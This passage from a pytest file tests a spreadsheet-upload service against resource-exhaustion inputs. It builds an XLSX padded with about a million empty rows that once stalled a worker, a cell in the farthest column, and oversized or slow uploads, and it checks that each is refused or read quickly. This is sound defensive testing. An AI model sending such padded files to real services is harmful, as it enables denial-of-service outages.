    """Three data rows, then about a million empty styled rows, declared A1:XFD1048576: the
    file that kept a worker at full CPU for more than ten minutes."""
    empty = b"".join(b'<row r="%d" s="0" customFormat="1"><c r="A%d" s="0"/></row>' % (r, r)
                     for r in range(5, 1_000_005))
    return _with_sheet_rows(HEADER_ROW + _data_rows(2, 4) + empty)


def _cpu_seconds() -> float:
    import resource

    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


@pytest.mark.slow
def test_a_padded_sheet_is_read_in_seconds_and_leaves_the_worker_idle(client):
    import threading
    import time

    def readers() -> set[threading.Thread]:
        # the app's one writer of last-use times starts on the first authenticated request
        return {t for t in threading.enumerate() if t.name != "thidua-auth-touch"}

    raw = padded_xlsx()
    assert len(raw) < 8_000_000
    threads = readers()
    started = time.monotonic()
    response = upload(client, raw)
    assert time.monotonic() - started < 10, "the padded sheet was not answered within 10 s"
    assert response.status_code == 202, response.get_data(as_text=True)
    assert response.get_json()["total"] == 3
    assert readers() == threads  # nothing left reading in the background
    before = _cpu_seconds()
    time.sleep(1.0)
    assert _cpu_seconds() - before < 0.5, "the process kept working after the answer"


def test_reading_stops_after_a_long_run_of_blank_rows(make_app):
    from service import tabular

    client = client_as(make_app())
    gap = tabular.BLANK_ROWS_END
    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 3) + _data_rows(4 + gap, 4 + gap),
                           dimension="A1:B9")
    response = upload(client, raw)
    assert response.status_code == 202, response.get_data(as_text=True)
    assert response.get_json()["total"] == 2


def test_too_many_cells_is_refused(make_app, monkeypatch):
    from service.tabular import xlsx_facts as tabular

    monkeypatch.setattr(tabular, "MAX_SHEET_CELLS", 40)
    client = client_as(make_app())
    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 30), dimension="A1:B30")
    body = refused(client, upload(client, raw), 413, "too_many_cells")
    assert "40" in body["detail"]


def test_a_cell_far_to_the_right_is_refused_not_padded_to(make_app):
    client = client_as(make_app())
    far = b'<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 2) + far)
    body = refused(client, upload(client, raw), 422, "too_many_columns")
    assert [(e["row"], e["column"]) for e in body["errors"]] == [(3, "XFD")]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_upload_that_outlasts_its_time_budget(make_app, kind):
    client = client_as(make_app(UPLOAD_READ_TIMEOUT_S=0.001))
    if kind == "xlsx":
        raw, name = huge_sheet_xlsx(5_000), "ds.xlsx"
    else:
        raw, name = (HEADER + "Nguyễn Văn An;Ông;CV\n" * 5_000).encode(), "ds.csv"
    body = refused(client, upload(client, raw, name), 413, "upload_too_slow")
    assert "giây" in body["detail"]
